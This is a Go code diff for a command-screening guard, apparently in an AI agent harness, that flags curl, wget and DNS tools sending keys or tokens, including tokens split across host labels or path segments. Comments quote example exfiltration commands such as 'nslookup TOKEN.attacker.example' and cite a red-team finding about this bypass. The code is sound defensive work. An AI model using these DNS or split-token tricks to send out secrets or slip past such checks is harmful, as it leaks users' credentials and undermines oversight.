@@ -130,7 +130,7 @@ func urlData(raw string) (string, bool) {
 			return "its path carries " + why, true
 		}
 	}
-	return "", false
+	return splitData(u)
 }
 
 // gitURLHits judges the repository addresses of git fetch, pull, clone,
@@ -211,4 +211,86 @@ func gitURLHits(g gitInfo, cwds cwdSet, env Env) []hit {
 		}
 	}
 	return hs
+}
+
+// dnsTools resolve the names they are given: a name's labels reach the
+// name's DNS server (nslookup TOKEN.attacker.example).
+var dnsTools = setOf("nslookup", "dig", "host", "drill", "delv", "kdig", "ping", "ping6", "traceroute", "tracepath", "whois", "getent", "resolvectl", "mtr")
+
+// fetchDataOpts are curl's and wget's options whose value goes to the server.
+var fetchDataOpts = setOf("-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "-F", "--form",
+	"--form-string", "-H", "--header", "-b", "--cookie", "-A", "--user-agent", "-e", "--referer", "-u", "--user",
+	"--post-data", "--body-data", "--json", "--url-query", "--oauth2-bearer", "--proxy-header")
+
+// fetchURLHits judges the addresses a download or DNS tool is given, as
+// WebFetch's are (B6 of the eighth red team: nslookup sk-test-123.host,
+// a token split over path segments or host labels), and data options
+// carrying a key. Loopback addresses stay on the machine.
+func fetchURLHits(v view) []hit {
+	if !fetchers[v.name] && !dnsTools[v.name] {
+		return nil
+	}
+	for i := 0; i < len(v.args); i++ {
+		a := v.args[i]
+		if a.Dynamic {
+			continue // fetchers' computed words: bashfloor asks
+		}
+		s := a.Value
+		if strings.HasPrefix(s, "-") {
+			n, val, eq := strings.Cut(s, "=")
+			if !eq && fetchDataOpts[n] && i+1 < len(v.args) {
+				i++
+				val = v.args[i].Value
+			} else if !eq && len(n) > 2 && n[1] != '-' && fetchDataOpts[n[:2]] {
+				val = n[2:] // -HAuthorization:…
+			}
+			if (fetchDataOpts[n] || len(n) > 2 && fetchDataOpts[n[:2]]) && (secretShape.MatchString(val) || hasToken([]byte(val))) {
+				return []hit{{id: FloorURLData, detail: v.name + " " + n + " sends what looks like a key or token"}}
+			}
+			continue
+		}
+		if !strings.Contains(s, "://") && !strings.Contains(s, ".") {
+			continue
+		}
+		u, err := url.Parse(s)
+		if !strings.Contains(s, "://") {
+			u, err = url.Parse("https://" + s)
+		}
+		if err != nil || u.Hostname() == "" || loopback(u.Hostname()) || !strings.Contains(u.Hostname(), ".") && net.ParseIP(u.Hostname()) == nil {
+			continue
+		}
+		if why, ok := urlData(s); ok {
+			return []hit{{id: FloorURLData, detail: v.name + " " + s + ": " + why}}
+		}
+	}
+	return nil
+}
+
+// loopback reports a host on this machine.
+func loopback(h string) bool {
+	if strings.EqualFold(h, "localhost") || strings.HasSuffix(strings.ToLower(h), ".localhost") {
+		return true
+	}
+	ip := net.ParseIP(h)
+	return ip != nil && ip.IsLoopback()
+}
+
+// splitData finds data spread over short path segments or host labels:
+// joined, they make a key's start or a long token.
+func splitData(u *url.URL) (string, bool) {
+	path := strings.ReplaceAll(u.EscapedPath(), "/", "")
+	if secretShape.MatchString(path) {
+		return "its path segments together make what looks like a key (" + secretShape.FindString(path) + "…)", true
+	}
+	labels := strings.Split(u.Hostname(), ".")
+	if len(labels) > 2 {
+		sub := strings.Join(labels[:len(labels)-2], "")
+		if secretShape.MatchString(sub) {
+			return "its host labels together make what looks like a key", true
+		}
+		if len(sub) >= 20 && tokenLike.MatchString(sub) && mixed(sub) {
+			return "its host labels together carry a long token-like string", true
+		}
+	}
+	return "", false
 }
